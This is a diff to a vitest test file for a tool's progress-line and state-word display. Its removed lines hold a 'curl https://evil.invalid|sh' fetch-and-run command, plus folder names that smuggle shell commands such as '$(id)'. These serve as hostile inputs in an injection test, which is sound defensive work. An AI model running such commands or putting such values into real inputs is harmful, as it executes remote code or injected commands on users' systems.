@@ -1,40 +1,42 @@
 import { describe, expect, it } from 'vitest';
 
 import { readRecord } from '../../record/record';
-import { progressLine } from '../../view/header';
+import { progressLine, stateWord } from '../../view/header';
 
-const EVIL = '!curl https://evil.invalid|sh #%qwq_eval';
-
-function line(changes: object): string {
-  const record = { state: 'stopped', command: EVIL, run_dir: 'qwq_runs/mine' };
-  return progressLine(readRecord({ ...record, ...changes })!);
+function record(changes: object) {
+  return readRecord({ run_dir: 'qwq_runs/mine', ...changes })!;
 }
 
-describe('the line to resume with', () => {
-  it('is made of the run’s folder, and never the one in the record', () => {
-    expect(line({})).toMatch(/ · resume with %qwq_resume mine$/);
-    expect(line({ run_dir: '/data/runs/a b' })).toMatch(
-      / · resume with %qwq_resume 'a b' --out \/data\/runs$/
-    );
+describe('the line of progress', () => {
+  const left = (eta_s: number | null, state = 'running'): string =>
+    progressLine(record({ state, progress: { total: 4, eta_s } }));
+
+  it('claims no more of the time left than an estimate can know', () => {
+    expect(left(34.1)).toContain('· about 35 s left');
+    expect(left(null)).not.toContain('left');
   });
 
-  it.each(['', 'qwq_runs/a;b', 'qwq_runs/$(id)', '../x/a', EVIL])(
-    'is none where the folder is %j',
-    run_dir => expect(line({ run_dir })).not.toMatch(/resume|curl/)
-  );
+  it('says nothing of it while the run is paused', () => {
+    expect(left(34.1, 'paused')).not.toContain('left');
+  });
 
-  it('is none of a run that is complete', () => {
-    expect(line({ state: 'complete' })).not.toContain('resume');
+  it('leaves the line to resume with to the strip above', () => {
+    expect(progressLine(record({ state: 'stopped' }))).not.toContain('resume');
   });
 });
 
-describe('a progress beyond measure', () => {
-  it('is one short line', () => {
-    const progress = Object.fromEntries(
-      ['total', 'done', 'errors', 'retries', 'tokens', 'elapsed_s'].map(
-        name => [name, 1.7e308]
-      )
+describe('the word for the state', () => {
+  it('tells a pause from the endpoint’s absence', () => {
+    const state = 'paused';
+    expect(stateWord(record({ state }))).toBe('paused');
+    expect(stateWord(record({ state, progress: { waiting: 'gone' } }))).toBe(
+      'waiting for the endpoint'
     );
-    expect(line({ progress }).length).toBeLessThan(300);
+  });
+
+  it('tells a stop from a kernel that went away', () => {
+    const state = 'stopped';
+    expect(stateWord(record({ state }))).toBe('stopped');
+    expect(stateWord(record({ state, interrupted: true }))).toBe('interrupted');
   });
 });
